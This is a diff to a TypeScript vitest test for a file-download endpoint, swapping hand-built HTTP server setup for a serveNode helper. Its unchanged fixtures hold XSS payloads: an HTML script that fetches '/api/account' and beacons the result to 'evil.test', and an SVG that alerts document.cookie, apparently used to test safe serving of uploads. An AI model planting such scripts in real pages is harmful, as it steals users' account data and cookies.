@@ -1,5 +1,3 @@
-import http from "node:http";
-import type { AddressInfo } from "node:net";
 import { eq } from "drizzle-orm";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { getDb } from "@/db";
@@ -13,6 +11,7 @@ import { downloadById } from "@/lib/server/downloads/serve-download";
 import { tusSessionResponse } from "@/lib/contracts/uploads";
 import { createFileToken } from "@/lib/server/tokens/create-file-token";
 import { createTestUser, type TestUser } from "../../helpers/factories";
+import { serveNode } from "../../helpers/node-server";
 import { ctxFor } from "../../helpers/files";
 import { call } from "../../helpers/http";
 import { multipartBody, openDatabase } from "../../helpers/upload-factories";
@@ -22,17 +21,15 @@ import { uploadBytes } from "../previews/fixtures";
 const HTML = "<!doctype html><html><body><script>fetch('/api/account').then(r=>r.text()).then(t=>navigator.sendBeacon('//evil.test',t))</script></body></html>";
 const SVG = `<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>`;
 
-let server: http.Server;
+let server: Awaited<ReturnType<typeof serveNode>>;
 let base = "";
 beforeAll(openDatabase, 180_000);
 beforeAll(async () => {
-  server = http.createServer((req, res) => downloadById(req, res));
-  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
-  base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
+  server = await serveNode((req, res) => downloadById(req, res));
+  base = server.url;
 });
 afterAll(async () => {
-  server.closeAllConnections();
-  await new Promise((resolve) => server.close(resolve));
+  await server.close();
 });
 
 const at = (versionId: number) => ({ params: { fileId: String(versionId) } });
